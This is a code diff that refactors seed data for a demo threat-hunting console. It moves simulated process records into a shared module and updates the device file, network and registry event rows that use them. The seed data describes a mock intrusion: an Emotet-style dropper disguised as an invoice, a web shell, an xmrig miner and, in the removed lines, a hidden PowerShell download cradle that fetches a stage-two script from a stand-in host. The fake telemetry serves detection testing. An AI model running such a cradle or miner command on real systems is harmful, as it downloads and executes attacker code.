@@ -1,6 +1,6 @@
 import { HuntingTableName, makeRow } from '../hunting/hunting-tables.schema';
 import { HuntingRow, HuntingValue, Machine } from '../model/entities';
-import { SEED_USERS } from './alerts.seed';
+import { SEED_PROCESSES, SEED_USERS, SeedProcess } from './processes.seed';
 import { ago } from './seed.builders';
 import { DEMO_MACHINE_IDS, OTHER_MACHINE_ID, SEED_FILES, SEED_NETWORK, SEED_REGISTRY, SeedFileHashes, SYSTEM_FILES } from './seed.constants';
 import { DEMO_MACHINES, OTHER_MACHINES, SEED_ADAPTERS } from './machines.seed';
@@ -14,19 +14,7 @@ function device(machineId: string): Pick<Machine, 'id' | 'computerDnsName'> {
   return m;
 }
 
-interface Initiator {
-  file: SeedFileHashes;
-  folder: string;
-  processId: number;
-  commandLine: string;
-  created: string;
-  size: number;
-  account: { name: string; domain: string; sid: string; upn: string | null; aadUserId: string | null };
-  parent: { fileName: string; processId: number; created: string };
-  integrity?: string;
-}
-
-function initiatorColumns(p: Initiator): Record<string, HuntingValue> {
+function initiatorColumns(p: SeedProcess): Record<string, HuntingValue> {
   return {
     InitiatingProcessAccountDomain: p.account.domain,
     InitiatingProcessAccountName: p.account.name,
@@ -66,7 +54,7 @@ interface FileEventInput {
   size: number;
   /** DeviceFileEvents.SHA256 is often empty in real data. */
   withSha256: boolean;
-  by: Initiator;
+  by: SeedProcess;
   extra?: Record<string, HuntingValue>;
 }
 
@@ -99,7 +87,7 @@ interface NetworkEventInput {
   remoteUrl: string;
   localIp: string;
   localPort: number;
-  by: Initiator;
+  by: SeedProcess;
 }
 
 function networkEvent(e: NetworkEventInput): HuntingRow {
@@ -159,7 +147,7 @@ function networkInfoRows(machineId: string, minutesAgo: number): HuntingRow[] {
   });
 }
 
-const OUTLOOK: Initiator = {
+const OUTLOOK: SeedProcess = {
   file: SYSTEM_FILES.outlook,
   folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16',
   processId: 5120,
@@ -169,28 +157,7 @@ const OUTLOOK: Initiator = {
   account: SEED_USERS.jdoe,
   parent: { fileName: 'explorer.exe', processId: 4012, created: ago(3300) },
 };
-const DROPPER: Initiator = {
-  file: SEED_FILES.emotetDropper,
-  folder: 'C:\\Users\\jdoe\\Downloads',
-  processId: 7412,
-  commandLine: '"invoice_2026_11.pdf.exe"',
-  created: ago(3048),
-  size: 284_672,
-  account: SEED_USERS.jdoe,
-  parent: { fileName: 'OUTLOOK.EXE', processId: 5120, created: ago(3190) },
-};
-const CRADLE: Initiator = {
-  file: SYSTEM_FILES.powershell,
-  folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
-  processId: 9936,
-  commandLine:
-    'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://badcdn-delivery.example/payload/stage2.ps1\')"',
-  created: ago(1562),
-  size: 452_608,
-  account: SEED_USERS.asmith,
-  parent: { fileName: 'explorer.exe', processId: 4388, created: ago(2100) },
-};
-const SYSTEM_SMB: Initiator = {
+const SYSTEM_SMB: SeedProcess = {
   file: { fileName: 'System', sha1: '', sha256: '', md5: '' },
   folder: '',
   processId: 4,
@@ -201,17 +168,7 @@ const SYSTEM_SMB: Initiator = {
   parent: { fileName: '', processId: 0, created: ago(20_000) },
   integrity: 'System',
 };
-const W3WP: Initiator = {
-  file: SYSTEM_FILES.w3wp,
-  folder: 'C:\\Windows\\System32\\inetsrv',
-  processId: 2604,
-  commandLine: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
-  created: ago(9000),
-  size: 31_232,
-  account: SEED_USERS.iisPool,
-  parent: { fileName: 'svchost.exe', processId: 1180, created: ago(20_000) },
-};
-const EDGE: Initiator = {
+const EDGE: SeedProcess = {
   file: SYSTEM_FILES.msedge,
   folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
   processId: 7720,
@@ -221,17 +178,7 @@ const EDGE: Initiator = {
   account: { name: 'svc-deploy', domain: 'CONTOSODEMO', sid: 'S-1-5-21-3623811015-3361044348-30300820-3001', upn: null, aadUserId: null },
   parent: { fileName: 'explorer.exe', processId: 3300, created: ago(6100) },
 };
-const XMRIG: Initiator = {
-  file: SEED_FILES.xmrig,
-  folder: '/tmp/.cache',
-  processId: 48211,
-  commandLine: `/tmp/.cache/xmrig -o stratum+tcp://${SEED_NETWORK.miningPoolDomain}:3333 --donate-level 1`,
-  created: ago(716),
-  size: 8_454_136,
-  account: SEED_USERS.builder,
-  parent: { fileName: 'bash', processId: 48190, created: ago(717) },
-};
-const BASH: Initiator = {
+const BASH: SeedProcess = {
   file: SYSTEM_FILES.bash,
   folder: '/usr/bin',
   processId: 48190,
@@ -241,7 +188,7 @@ const BASH: Initiator = {
   account: SEED_USERS.builder,
   parent: { fileName: 'sshd', processId: 1022, created: ago(9000) },
 };
-const LAUNCHD: Initiator = {
+const LAUNCHD: SeedProcess = {
   file: SYSTEM_FILES.launchd,
   folder: '/sbin',
   processId: 1,
@@ -251,7 +198,7 @@ const LAUNCHD: Initiator = {
   account: SEED_USERS.system,
   parent: { fileName: 'kernel_task', processId: 0, created: ago(30_000) },
 };
-const MACCLEANER: Initiator = {
+const MACCLEANER: SeedProcess = {
   file: SEED_FILES.macCleaner,
   folder: '/Applications/MacCleanerPro.app/Contents/MacOS',
   processId: 811,
@@ -261,7 +208,7 @@ const MACCLEANER: Initiator = {
   account: SEED_USERS.mlopez,
   parent: { fileName: 'launchd', processId: 1, created: ago(30_000) },
 };
-const OTHER_LOADER: Initiator = {
+const OTHER_LOADER: SeedProcess = {
   file: SEED_FILES.otherLoader,
   folder: 'C:\\Users\\labuser\\Desktop',
   processId: 3004,
@@ -282,11 +229,11 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     fileEvent({
       machineId: M.win10, minutesAgo: 3047, actionType: 'FileCreated', file: { ...SEED_FILES.emotetDropper, fileName: 'OneDriveSync.exe' },
-      folder: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', size: 284_672, withSha256: false, by: DROPPER,
+      folder: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync', size: 284_672, withSha256: false, by: SEED_PROCESSES.dropper,
     }),
     fileEvent({
       machineId: M.win11, minutesAgo: 1560, actionType: 'FileCreated', file: SEED_FILES.svcUpdater,
-      folder: 'C:\\ProgramData\\SvcUpdater', size: 118_784, withSha256: true, by: CRADLE,
+      folder: 'C:\\ProgramData\\SvcUpdater', size: 118_784, withSha256: true, by: SEED_PROCESSES.cradle,
       extra: {
         FileOriginUrl: `https://${SEED_NETWORK.payloadSubdomain}/u/svc-updater.dll`,
         FileOriginIP: SEED_NETWORK.payloadSubdomainIp,
@@ -317,11 +264,11 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     fileEvent({
       machineId: M.server2022, minutesAgo: 4300, actionType: 'FileCreated', file: SEED_FILES.webShell,
-      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: true, by: W3WP,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: true, by: SEED_PROCESSES.w3wp,
     }),
     fileEvent({
       machineId: M.server2022, minutesAgo: 4100, actionType: 'FileModified', file: SEED_FILES.webShell,
-      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: false, by: W3WP,
+      folder: 'C:\\inetpub\\wwwroot\\aspnet_client', size: 2_214, withSha256: false, by: SEED_PROCESSES.w3wp,
     }),
     fileEvent({
       machineId: M.linux, minutesAgo: 717, actionType: 'FileCreated', file: SEED_FILES.xmrig,
@@ -335,23 +282,23 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
   DeviceNetworkEvents: [
     networkEvent({
       machineId: M.win10, minutesAgo: 3046, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
-      remoteUrl: '', localIp: '10.20.14.37', localPort: 52114, by: DROPPER,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 52114, by: SEED_PROCESSES.dropper,
     }),
     networkEvent({
       machineId: M.win10, minutesAgo: 2820, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 443,
-      remoteUrl: '', localIp: '10.20.14.37', localPort: 53390, by: DROPPER,
+      remoteUrl: '', localIp: '10.20.14.37', localPort: 53390, by: SEED_PROCESSES.dropper,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1561, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
-      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61022, by: CRADLE,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61022, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1560.5, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.payloadSubdomainIp,
-      remotePort: 443, remoteUrl: SEED_NETWORK.payloadSubdomain, localIp: '192.168.1.54', localPort: 61030, by: CRADLE,
+      remotePort: 443, remoteUrl: SEED_NETWORK.payloadSubdomain, localIp: '192.168.1.54', localPort: 61030, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.win11, minutesAgo: 1150, actionType: 'ConnectionFailed', remoteIp: SEED_NETWORK.c2Ip, remotePort: 80,
-      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61877, by: CRADLE,
+      remoteUrl: SEED_NETWORK.payloadDomain, localIp: '192.168.1.54', localPort: 61877, by: SEED_PROCESSES.cradle,
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 6005, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.benignIp, remotePort: 443,
@@ -359,15 +306,15 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 4200, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
-      remotePort: 51544, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+      remotePort: 51544, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: SEED_PROCESSES.w3wp,
     }),
     networkEvent({
       machineId: M.server2022, minutesAgo: 600, actionType: 'InboundConnectionAccepted', remoteIp: SEED_NETWORK.webShellClientIpv6,
-      remotePort: 51980, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: W3WP,
+      remotePort: 51980, remoteUrl: '', localIp: '2001:db8:4a2f:10::21', localPort: 443, by: SEED_PROCESSES.w3wp,
     }),
     networkEvent({
       machineId: M.linux, minutesAgo: 715, actionType: 'ConnectionSuccess', remoteIp: SEED_NETWORK.miningPoolIp, remotePort: 3333,
-      remoteUrl: SEED_NETWORK.miningPoolDomain, localIp: '10.20.3.40', localPort: 40122, by: XMRIG,
+      remoteUrl: SEED_NETWORK.miningPoolDomain, localIp: '10.20.3.40', localPort: 40122, by: SEED_PROCESSES.xmrig,
     }),
     networkEvent({
       machineId: M.macos, minutesAgo: 4998, actionType: 'ConnectionSuccess', remoteIp: '203.0.113.99', remotePort: 443,
@@ -420,7 +367,7 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
       RegistryValueName: 'OneDriveSync',
       RegistryValueData: 'C:\\Users\\jdoe\\AppData\\Roaming\\OneDriveSync\\OneDriveSync.exe',
       ReportId: 8811,
-      ...initiatorColumns(DROPPER),
+      ...initiatorColumns(SEED_PROCESSES.dropper),
     }),
     // Same hive, a neighbouring key: never a match for the Run key.
     makeRow('DeviceRegistryEvents', {
@@ -433,7 +380,7 @@ export const DEMO_HUNTING: Record<HuntingTableName, HuntingRow[]> = {
       RegistryValueName: 'Cleanup',
       RegistryValueData: 'cmd /c del %TEMP%\\*.tmp',
       ReportId: 8812,
-      ...initiatorColumns(DROPPER),
+      ...initiatorColumns(SEED_PROCESSES.dropper),
     }),
   ],
   DeviceLogonEvents: [
